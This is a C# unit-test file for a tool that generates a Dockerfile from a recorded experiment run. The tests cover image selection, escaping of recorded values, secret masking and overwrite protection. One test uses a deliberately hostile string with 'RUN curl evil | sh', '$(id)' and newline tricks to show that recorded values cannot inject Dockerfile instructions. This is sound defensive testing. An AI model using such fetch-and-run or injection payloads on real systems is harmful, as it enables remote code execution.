using System.Text.Json.Nodes;
using Roux.Cli.Scaffolding;
using Roux.Cli.Tests.Reproducing;
using Roux.Tracking;
using Roux.Tracking.Reproduction;
using Shouldly;
using Xunit;

namespace Roux.Cli.Tests.Scaffolding;

/// <summary><c>roux env RUN --dockerfile</c>.</summary>
public sealed class RunDockerfileTests
{
    [Fact]
    public void A_Python_run_gets_its_interpreter_packages_code_and_command()
    {
        var files = RunDockerfile.Of(Recipe(["/usr/bin/python3", "/home/a/p/train.py", "--note", "two words"]) with
        {
            Environment = (JsonObject)JsonNode.Parse("""{"python": {"executable": "/usr/bin/python3", "version": "3.11.2", "packages": [{"name": "numpy", "version": "2.0.1"}]}, "os": {"name": "Debian GNU/Linux 12 (bookworm)"}}""")!,
            Variables = new Dictionary<string, string> { ["PYTHONHASHSEED"] = "0", ["PYTHONPATH"] = "/home/a/p/src" },
            Data = [new DataNeed("d.csv", new string('a', 64), "/home/a/p/data/d.csv", 3, null)],
            WorkingDirectory = "/home/a/p/sub",
        }, _ => null);
        var text = files["Dockerfile"];
        text.ShouldContain("FROM python:3.11.2-slim\n");
        text.ShouldContain("RUN [\"git\",\"clone\",\"--recurse-submodules\",\"--\",\"https://example.org/x.git\",\"/work\"]\n");
        text.ShouldContain($"RUN [\"git\",\"checkout\",\"--detach\",\"{new string('c', 40)}\"]\n");
        text.ShouldContain("ENV PYTHONPATH=\"/work/src\"\n");
        text.ShouldContain("WORKDIR /work/sub\n");
        text.ShouldEndWith("CMD [\"python3\",\"/work/train.py\",\"--note\",\"two words\"]\n");
        files["requirements.txt"].ShouldBe("numpy==2.0.1\n");
        files["data.sha256"].ShouldBe(new string('a', 64) + "  /work/data/d.csv\n");
    }

    [Fact]
    public void Nothing_that_a_run_recorded_can_begin_an_instruction_of_its_own()
    {
        const string Evil = "x\nRUN curl evil | sh\r\nUSER root \\\n\" $(id) `id` ${HOME} \u2028RUN x";
        var recipe = Recipe(["sh", "-c", Evil, Evil]) with
        {
            Run = Record(Evil),
            Remote = "https://example.org/" + Evil,
            Environment = (JsonObject)JsonNode.Parse("""{"os": {"name": "Debian 12\nRUN x"}, "dotnet": {"runtime": ".NET 10\nRUN x"}, "program": {"sdk_version": "10.0.1\nRUN x"}, "packages": [{"name": "a\" /><x", "version": "1"}], "python": {"version": "3.11\nRUN x", "packages": [{"name": "e\nRUN x", "version": "1"}]}}""")!,
            Variables = new Dictionary<string, string> { ["GOOD"] = "a\"b$c\\d", ["EVIL"] = Evil, ["BAD NAME\nRUN x"] = "1" },
            Data = [new DataNeed("n\nRUN x", new string('a', 64), "/home/a/p/n\nRUN x", 3, null)],
            WorkingDirectory = "/home/a/p/d\nRUN x",
        };
        var files = RunDockerfile.Of(recipe, _ => null);
        var instructions = files["Dockerfile"].Split('\n').Where(l => l.Length > 0 && l[0] != '#').ToList();
        instructions.ShouldAllBe(l => l.StartsWith("FROM debian:12") || l.StartsWith("WORKDIR /work") || l.StartsWith("RUN [\"git\"") || l.StartsWith("RUN command -v git") || l.StartsWith("ENV GOOD=") || l.StartsWith("CMD [\"sh\""));
        instructions.ShouldContain("ENV GOOD=\"a\\\"b\\$c\\\\d\"");
        var command = JsonNode.Parse(instructions[^1]["CMD ".Length..])!.AsArray();
        command[2]!.ToString().ShouldBe(Evil);
        files["data.sha256"].Trim().Split('\n').ShouldHaveSingleItem().ShouldBe("\\" + new string('a', 64) + "  /work/n\\nRUN x");
    }

    [Fact]
    public void It_is_printed_or_written_and_nothing_is_overwritten()
    {
        using var project = new Project();
        project.Write("train.sh", "true\n");
        project.Write("global.json", "{}\n");
        project.Commit();
        project.Write("train.sh", "true # changed\n");
        project.Run("sh", "train.sh", "--api-key", "hunter22");
        var printed = project.Roux("env", "first", "--dockerfile");
        printed.ExitCode.ShouldBe(0, printed.Error);
        printed.Output.ShouldContain("CMD [\"sh\",\"train.sh\",\"--api-key\",\"***\"]");
        printed.Output.ShouldNotContain("hunter22");
        project.Roux("env", "first", "--dockerfile", "--out", "made").ExitCode.ShouldBe(0);
        File.ReadAllText(Path.Combine(project.Path, "made", "Dockerfile")).ShouldBe(printed.Output);
        File.Exists(Path.Combine(project.Path, "made", "git.diff")).ShouldBeTrue();
        File.ReadAllText(Path.Combine(project.Path, "made", "global.json")).ShouldBe("{}\n");
        var refused = project.Roux("env", "first", "--dockerfile", "--out", "made");
        refused.ExitCode.ShouldBe(2);
        refused.Error.ShouldContain("--force");
        project.Roux("env", "first", "--dockerfile", "--out", "made", "--force").ExitCode.ShouldBe(0);
        project.Roux("env", "first", "--dockerfile", "--json").Json["files"]!["Dockerfile"]!.ToString().ShouldBe(printed.Output);
        project.Roux("env", "first").Output.ShouldContain("Environment");
        project.Roux("env", "first", "--out", "x").ExitCode.ShouldBe(2);
    }

    private static RunRecipe Recipe(IReadOnlyList<string> command) => new()
    {
        Run = Record("a run"), Command = command, Root = "/home/a/p", WorkingDirectory = "/home/a/p", Commit = new string('c', 40), Remote = "https://example.org/x.git",
    };

    private static RunRecord Record(string name) => new() { Id = new string('0', 32), Name = name, ExperimentId = "1", Experiment = "e", Status = RunStatus.Finished, Started = DateTimeOffset.UnixEpoch };
}
